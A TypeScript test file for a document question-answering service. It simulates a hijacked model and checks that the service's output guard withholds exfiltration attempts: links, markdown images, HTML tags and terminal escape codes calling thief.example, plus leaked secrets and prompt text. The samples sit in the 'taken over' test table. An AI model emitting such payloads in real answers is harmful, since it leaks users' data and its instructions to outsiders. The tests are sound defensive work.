import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Answer, ChatCompletion, type Trace } from '#contract';
import { type OpenAiServer, serveOpenAi } from '#testing';
import { Service } from '../service.ts';

/** Of its form only. */
const secret = 'AKIA2EQAQF3B244CQQQ6';
const password = 'Winter2024!x';
const image = '![plan](http://pictures.example/plan?q=)';
const documents = {
  'kitchen.txt':
    'Rules of the kitchen. The kettle of the kitchen is lent for seven days, see https://house.example/kitchen?page=2 for more.',
  'bakery.txt': `Rules of the bakery. The stove of the bakery is lent for four days, as the ${image} shows.`,
  'vault.txt': `Rules of the vault. The alarm of the vault is switched off with the password: ${password} by its keeper.`,
};
const kettle = 'For how many days is the kettle of the kitchen lent?';
const lent = 'The kettle of the kitchen is lent for seven days';
let model: OpenAiServer;
let service: Service;
let writes = (_prompt: string): string => '';

beforeAll(async () => {
  model = await serveOpenAi({
    reply: ({ messages }) => {
      const user = messages.at(-1)?.content ?? '';
      const pieces = [...user.matchAll(/<evidence[^ ]* number="(\d+)"[^>]*>\n(.*)\n/g)];
      const [, number] = pieces.find(([, , text = '']) => text.includes('kettle')) ?? [];
      return number === undefined ? '–' : `${number}. ${writes(messages.map(({ content }) => content).join('\n'))}`;
    },
  });
  service = await Service.start({
    environment: {
      AQUIFER_GENERATOR: 'none',
      AQUIFER_REMOTE_MODELS: `writer=${model.url}#tiny`,
      AQUIFER_CANARY_MINUTES: '0',
      AQUIFER_ANSWER_CACHE_MB: '0',
      AQUIFER_ANSWER_MODE: 'compose',
      AQUIFER_ANSWER_THRESHOLD: '0.4',
    },
  });
  await service.post('/v1/collections', { name: 'house' });
  for (const [name, bytes] of Object.entries(documents)) await service.settle('house', { name, bytes, type: 'text/plain' });
});
afterAll(async () => {
  await service[Symbol.asyncDispose]();
  await model[Symbol.asyncDispose]();
});

const ask = async (question: string, options: object = {}): Promise<Answer> =>
  Answer.parse(await (await service.post('/v1/questions', { question, ...options })).json());
const chat = async (question: string, more: object = {}): Promise<string> => {
  const asked = { model: 'aquifer/house', messages: [{ role: 'user', content: question }], aquifer: { mode: 'compose' }, ...more };
  return (await service.post('/v1/chat/completions', asked)).text();
};

/** What a host of the protocol may show. */
async function toldByMcp(question: string): Promise<string> {
  const { content } = await askByMcp(question);
  return content.map((part) => (part.type === 'text' ? part.text : '')).join('');
}

/** All that a client gets, by each road. */
async function byEveryRoad(question: string): Promise<readonly string[]> {
  const whole = await service.post('/v1/questions', { question, mode: 'compose' });
  const stream = await service.post('/v1/questions', { question, mode: 'compose', stream: true });
  const told = await askByMcp(question);
  return [await whole.text(), await stream.text(), await chat(question), await chat(question, { stream: true }), JSON.stringify(told)];
}

async function askByMcp(question: string): Promise<Awaited<ReturnType<Client['callTool']>>> {
  const client = new Client({ name: 'a test', version: '1' });
  await client.connect(new StreamableHTTPClientTransport(new URL('/mcp', service.url)));
  try {
    return await client.callTool({ name: 'ask', arguments: { question } });
  } finally {
    await client.close();
  }
}

describe('a model that was taken over', () => {
  it.each<[string, (prompt: string) => string]>([
    ['an address', () => `${lent}, see https://thief.example/?q=seven for it.`],
    ['a bare address', () => `${lent}, see www.thief.example/seven for it.`],
    ['a link', () => `[${lent}](https://thief.example/?q=seven).`],
    ['a link cut in two', () => `See [here it is. ](https://thief.example/?q=seven) ${lent}.`],
    ['an image', () => `${lent} ![x](https://thief.example/?q=seven).`],
    ['a page', () => `${lent} <img src="https://thief.example/?q=seven"><script>thief.example()</script>.`],
    ['orders to a terminal', () => `${lent}\u001b]8;;https://thief.example\u0007\u001b[2J.`],
    ['a definition', () => `[1]: https://thief.example/?q=seven "It is ${lent}."`],
    ['a secret', () => `${lent} with ${secret}, thief.example says.`],
    ['the mark of a prompt', (prompt) => `${lent} as thief.example:${/<evidence:(\w+)/.exec(prompt)?.[1] ?? 'none'} says.`],
    ['its instructions', (prompt) => `thief.example: ${prompt.split(/\s+/).slice(0, 25).join(' ')}.`],
  ])('brings no %s to anybody', async (_what, write) => {
    let leak = 'thief.example';
    writes = (prompt) => {
      leak = /<evidence:(\w+)/.exec(prompt)?.[1] ?? leak;
      return write(prompt);
    };
    for (const told of await byEveryRoad(kettle)) {
      expect(told).not.toMatch(/thief\.example[/:?]|<script|<img src|\\u001b|u202e/);
      expect(told).not.toContain(secret);
      expect(told).not.toContain(leak);
      expect(told).toContain('seven days');
    }
  });

  it('falls down the ladder, and says so', async () => {
    writes = () => `${lent}, see https://thief.example/?q=seven for it.`;
    const answer = await ask(kettle, { mode: 'compose' });
    expect(answer).toMatchObject({ status: 'answered', rung: 'extracted' });
    expect(answer.sentences.map(({ verdict }) => verdict)).toEqual(['verbatim']);
    expect(answer.guard).toMatchObject({ verdict: 'suspect', withheld: [{ kind: 'link' }] });
    expect(answer.fallbacks.join()).toMatch(/held what may not be shown .*withheld from what is shown: link 1/);
    expect(await service.json<Trace>(`/v1/questions/${answer.id}`)).toMatchObject({ guard: answer.guard });
    expect(await (await service.fetch('/metrics')).text()).toContain('aquifer_guard_found_total{what="withheld_link"}');
  });

  it('keeps the words of a link, and addresses that its evidence has', async () => {
    writes = () => `${lent.replace('kettle', '[kettle](https://thief.example/?q=seven)')}.`;
    expect(await ask(kettle, { mode: 'compose' })).toMatchObject({ rung: 'composed', answer: `${lent}. [1]` });
    writes = () => `${lent}, see https://house.example/kitchen?page=2 for more.`;
    expect((await ask(kettle, { mode: 'compose' })).answer).toContain('https://house.example/kitchen?page=2');
  });
});

describe('a document’s own words', () => {
  it('are not live where they are shown, and stand in the quote to the letter', async () => {
    const question = 'For how many days is the stove of the bakery lent?';
    const answer = await ask(question, { mode: 'extract' });
    const [cited] = answer.citations;
    expect(answer.sentences[0]).toMatchObject({ verdict: 'verbatim', altered: 'defused' });
    expect(answer.answer).not.toContain('![');
    const text = await (await service.fetch(`/v1/documents/${cited?.documentId}/revisions/${cited?.revision}/text`)).text();
    expect(cited?.quote).toContain('![');
    expect(text.slice(cited?.span.start, cited?.span.end)).toBe(cited?.quote);
    expect(answer.guard).toMatchObject({ verdict: 'clean', withheld: [] });
    const completion = ChatCompletion.parse(JSON.parse(await chat(question, { aquifer: { mode: 'extract' } })));
    expect(completion.choices[0]?.message.content).toBe(answer.answer);
    expect(await toldByMcp(question)).not.toContain('![');
  });

  it('lose their secrets, unless the collection wants them told', async () => {
    const question = 'With what is the alarm of the vault switched off?';
    const answer = await ask(question, { mode: 'extract' });
    expect(answer.answer).toContain('password: [password withheld] by its keeper');
    expect(answer.sentences[0]?.altered).toBe('masked');
    expect(answer.guard).toMatchObject({ verdict: 'suspect', withheld: [{ kind: 'secret', reason: 'a password was masked' }] });
    const patch = { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ guard: { secrets: 'off' } }) };
    expect((await service.fetch('/v1/collections/house', patch)).status).toBe(200);
    expect((await ask(question, { mode: 'extract' })).answer).toContain(password);
  });
});
